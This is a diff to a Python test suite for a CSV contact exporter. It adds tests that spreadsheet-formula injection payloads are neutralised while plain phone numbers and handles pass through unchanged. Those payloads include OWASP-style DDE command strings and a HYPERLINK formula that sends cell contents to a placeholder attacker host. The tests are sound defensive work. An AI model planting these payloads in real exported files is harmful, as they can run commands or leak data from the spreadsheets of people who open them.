@@ -26,6 +26,7 @@ from beeper_tui.service.export.formats import (
     JsonArrayWriter,
     VCardWriter,
     clean_text,
+    is_plain_value,
     neutralise_cell,
 )
 from beeper_tui.service.export.run import ExportProgress, export_contacts, iter_contact_pages
@@ -216,16 +217,15 @@ def test_csv_all_accounts(
     assert len(rows) == enabled_count(small_dataset)
     for row in rows:
         for cell in row.values():
-            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+            assert is_plain_value(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
             assert not _C0.search(cell)
-    # E.164 phones and handles are neutralised too (documented): Excel reads "+1…" as a formula.
+    # Plain E.164 phones and plain handles are not formulas: no apostrophe.
     phones = [r["phone"] for r in rows if r["phone"]]
     assert phones
-    assert all(p.startswith("'+") for p in phones)
-    assert all(r["user_id"].startswith("'@") for r in rows)
-    mallory = next(r for r in rows if r["user_id"] == "'@mallory:matrix.org")
+    assert all(p.startswith("+") for p in phones)
+    mallory = next(r for r in rows if r["user_id"] == "@mallory:matrix.org")
     assert mallory["name"] == "[red]x[/red]"
-    assert mallory["username"] == "'@mallory"
+    assert mallory["username"] == "@mallory"
     assert mallory["account_id"] == MATRIX
     assert mallory["network"] == "Beeper"
     assert {r["is_self"] for r in rows} >= {"true"}
@@ -233,10 +233,48 @@ def test_csv_all_accounts(
 
 
 def test_csv_neutralises_formulas() -> None:
-    for value in ("=1+1", "+14155552671", "-2", "@SUM(A1)", "\tx", "\rx", "  =HYPERLINK(1)"):
+    for value in ("=1+1", "-2", "@SUM(A1)", "\tx", "\rx", "  =HYPERLINK(1)"):
         assert neutralise_cell(value) == "'" + value
     for value in ("Alice", "", "42", "a=b", "'quoted"):
         assert neutralise_cell(value) == value
+
+
+# The OWASP CSV-injection cheat sheet's payloads, and variations on phones and handles.
+OWASP_PAYLOADS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.invalid?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=1+2";=1+2',
+    "=1+2'\" ,,=1+2",
+    "+1+1",
+    "+44 7533 813808",
+    "+4475338138089999999",
+    "+0123456789",
+    "@SUM(A1:A2)",
+    "@zoe+1",
+    "@zoe(1)",
+    "@ zoe",
+    "@",
+    "+",
+    "\t=1",
+    "\r=1",
+    " =1",
+    "-1+2",
+)
+REAL_VALUES = ("+447533813808", "+14155552671", "+33612345678", "@zoep244", "@mallory", "@z.o_e")
+REAL_VALUES += ("@mallory:matrix.org", "@whatsapp_447533813808:beeper.local")
+
+
+@pytest.mark.parametrize("value", OWASP_PAYLOADS)
+def test_csv_neutralises_owasp_payloads(value: str) -> None:
+    assert neutralise_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", REAL_VALUES)
+def test_csv_spares_plain_phones_and_handles(value: str) -> None:
+    assert neutralise_cell(value) == value
 
     stream = io.StringIO()
     writer = CsvWriter(stream)
@@ -409,10 +447,44 @@ def test_unknown_account(demo_app: Starlette, capsys: pytest.CaptureFixture[str]
     assert run(demo_app, "--account", "no-such-account", "--format", "csv") == 1
     out, err = capsys.readouterr()
     assert out == ""
-    assert error_lines(err) == [
-        "beeper-tui export: error: "
-        "Account not found (HTTP 404 from GET /v1/accounts/no-such-account)"
-    ]
+    lines = error_lines(err)
+    assert len(lines) == 1
+    assert lines[0].startswith(
+        "beeper-tui export: error: --account 'no-such-account' matches no account; choose one of: "
+    )
+    assert "telegram (Telegram · " in lines[0]
+
+
+def test_account_by_network_name(
+    demo_app: Starlette, small_dataset: Dataset, out_dir: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    target = out_dir / "wa.csv"
+    assert run(demo_app, "--account", "whatsapp", "--format", "csv", "-o", str(target)) == 0
+    assert capsys.readouterr().err == ""
+    rows = read_csv(target)
+    whatsapp = account_id(small_dataset, "whatsapp")
+    assert whatsapp.startswith("local-whatsapp_")
+    assert {r["account_id"] for r in rows} == {whatsapp}
+    assert len(rows) == contact_count(small_dataset, "whatsapp")
+    phones = [r["phone"] for r in rows if r["phone"]]
+    assert phones
+    assert all(p.startswith("+") for p in phones)
+
+
+def test_account_by_unique_prefix_and_ambiguous(
+    demo_app: Starlette, small_dataset: Dataset, out_dir: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    target = out_dir / "tg.csv"
+    assert run(demo_app, "--account", "tele", "--format", "csv", "-o", str(target)) == 0
+    assert {r["account_id"] for r in read_csv(target)} == {account_id(small_dataset, "telegram")}
+    capsys.readouterr()
+    # "i" starts iMessage, Instagram and imessagecloud_…: the choices are listed.
+    assert run(demo_app, "--account", "i", "--format", "csv") == 1
+    (line,) = error_lines(capsys.readouterr().err)
+    assert "matches more than one account; choose one of:" in line
+    assert "(iMessage · " in line
+    assert "(Instagram · " in line
+    assert "(Telegram · " not in line
 
 
 def test_cannot_connect(out_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
